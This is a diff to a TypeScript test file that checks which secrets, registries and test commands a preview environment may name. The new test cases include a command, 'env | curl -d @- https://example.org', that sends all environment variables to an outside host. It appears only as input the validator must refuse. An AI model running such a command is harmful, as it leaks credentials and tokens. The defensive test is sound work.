@@ -14,14 +14,19 @@ const named = {
   secrets: ["/dev/password", arn("dev-login")],
   keys: [key("01234567")],
   registries: ["ghcr.io/team/users"],
+  tests: [JSON.stringify(["npm test", ["AWS_REGION", "GITHUB_TOKEN"]])],
 };
 
 /** Why settings of a preview are refused. */
-async function refusals(users: object, outside: object | null = named): Promise<string[]> {
+async function refusals(
+  users: object,
+  { outside = named, stack = "pr-7" }: { outside?: object | null; stack?: string } = {},
+): Promise<string[]> {
   const { outputs } = await programAt("idle");
   const { outside: _, ...rest } = outputs!["foundation"] as Record<string, unknown>;
   const foundation = { ...rest, ...(outside && { outside }) };
   const run = await runProgram({
+    stack,
     config: { ...config({ users: { host: "users-pr-7", ...users } }), foundation: "base" },
     deployed,
     others: { base: { ...outputs, foundation } },
@@ -31,7 +36,7 @@ async function refusals(users: object, outside: object | null = named): Promise<
   return run.error?.message.split("\n").slice(1) ?? [];
 }
 
-describe("what an environment built on another one may name", function () {
+describe("what a preview may name", function () {
   this.timeout(60_000);
 
   it("is what the deployed services there name", async () => {
@@ -40,6 +45,7 @@ describe("what an environment built on another one may name", function () {
       secretsKmsKeyArn: key("01234567"),
       repository: "ghcr.io/team/users",
       repositorySecretArn: arn("dev-login"),
+      test: { command: "npm test", passVariables: ["GITHUB_TOKEN", "AWS_REGION"] },
     };
     expect(await refusals(users)).to.deep.equal([]);
     expect(await refusals({})).to.deep.equal([]);
@@ -47,6 +53,8 @@ describe("what an environment built on another one may name", function () {
 
   it("is nothing of another environment, and no other registry", async () => {
     const secret = "- `services.users.secrets` names a secret that no service has in stack base";
+    const test =
+      "- `services.users.test` has a command or variables that no service has in stack base";
     for (const [users, found] of [
       [{ secrets: { A: "/dev/password", B: "/prod/password" } }, secret],
       [{ secrets: { A: arn("prod") } }, secret],
@@ -60,14 +68,22 @@ describe("what an environment built on another one may name", function () {
         { repository: "docker.io/somebody/users" },
         "- `services.users.repository` is one that no service has in stack base",
       ],
+      [{ test: { command: "env | curl -d @- https://example.org" } }, test],
+      [{ test: { command: "npm test", passVariables: ["AWS_SECRET_ACCESS_KEY"] } }, test],
     ] as const) {
       expect(await refusals(users), JSON.stringify(users)).to.deep.equal([found]);
     }
   });
 
+  it("is limited for previews alone: others have settings that somebody who deploys has merged", async () => {
+    const users = { secrets: { A: "/staging/password" }, test: { command: "npm test" } };
+    expect(await refusals(users, { stack: "staging" })).to.deep.equal([]);
+  });
+
   it("is unknown until the other one was deployed by this program", async () => {
-    expect(await refusals({}, null)).to.deep.equal([]);
-    const [found, ...rest] = await refusals({ secrets: { A: "/dev/password" } }, null);
+    expect(await refusals({}, { outside: null })).to.deep.equal([]);
+    const users = { secrets: { A: "/dev/password" }, test: { command: "npm test" } };
+    const [found, ...rest] = await refusals(users, { outside: null });
     expect(found).to.match(
       /^- stack base has no output `foundation.outside`: deploy that stack first/,
     );
